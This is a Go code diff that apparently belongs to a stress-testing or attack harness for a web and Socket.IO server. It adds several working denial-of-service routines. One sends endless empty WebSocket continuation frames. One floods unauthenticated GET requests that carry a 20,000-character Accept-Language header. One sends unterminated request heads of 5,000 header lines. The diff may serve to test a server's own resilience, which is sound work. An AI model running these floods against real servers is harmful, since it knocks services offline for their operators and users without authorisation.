@@ -116,6 +116,28 @@ func sendsBlankFrames(a *attacker) {
 	}
 }
 
+// sendsEndlessParts sends messages in parts that hold nothing, and never the last part.
+func sendsEndlessParts(a *attacker) {
+	conn, err := a.open(a.dial)
+	if err != nil {
+		return
+	}
+	defer conn.Close()
+	go io.Copy(io.Discard, conn.NetConn()) // until the server closes it
+	begin, part := []byte{0x01, 0x80, 0, 0, 0, 0}, []byte{0, 0x80, 0, 0, 0, 0}
+	if _, err := conn.NetConn().Write(begin); err != nil {
+		a.tally.Refused.Add(1)
+		return
+	}
+	for many := bytes.Repeat(part, 10_000); a.ctx.Err() == nil; {
+		if _, err := conn.NetConn().Write(many); err != nil {
+			a.tally.Refused.Add(1)
+			return
+		}
+		a.tally.Done.Add(10_000)
+	}
+}
+
 // sendsEndlessFrames opens sockets without an account, and sends frames and bodies of Socket.IO that lack their end.
 func sendsEndlessFrames(a *attacker) {
 	a.keep(func(conn io.ReadWriter) {
@@ -134,6 +156,42 @@ func sendsEndlessFrames(a *attacker) {
 			_, wrong = conn.Write(endless)
 		}
 		if wrong == nil {
+			a.tally.Done.Add(1)
+		}
+		io.Copy(io.Discard, conn) // until the server closes it
+	})
+}
+
+// asksForFree asks for what is answered to anybody and costs them nothing, without an account, and reads what comes.
+func asksForFree(a *attacker) {
+	conn, err := a.dial(a.ctx, "tcp", a.host())
+	if err != nil {
+		a.tally.Refused.Add(1)
+		return
+	}
+	defer conn.Close()
+	go io.Copy(io.Discard, conn) // ends when the connection does
+	paths := []string{"/", "/healthz", "/api/openapi.json", "/socket.io/?EIO=4&transport=polling"}
+	ask := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nAccept-Language: %s\r\n\r\n",
+		paths[a.number.Add(1)%int64(len(paths))], a.host(), strings.Repeat(",", 20_000))
+	for a.ctx.Err() == nil {
+		if _, err := io.WriteString(conn, ask); err != nil {
+			a.tally.Refused.Add(1)
+			return
+		}
+		a.tally.Done.Add(1)
+	}
+}
+
+// sendsEndlessHeads sends heads of requests, without an account, that have thousands of lines and lack their end.
+func sendsEndlessHeads(a *attacker) {
+	var head strings.Builder
+	fmt.Fprintf(&head, "GET / HTTP/1.1\r\nHost: %s\r\n", a.host())
+	for i := range 5_000 {
+		fmt.Fprintf(&head, "%x:\n", i)
+	}
+	a.keep(func(conn io.ReadWriter) {
+		if _, err := io.WriteString(conn, head.String()); err == nil {
 			a.tally.Done.Add(1)
 		}
 		io.Copy(io.Discard, conn) // until the server closes it
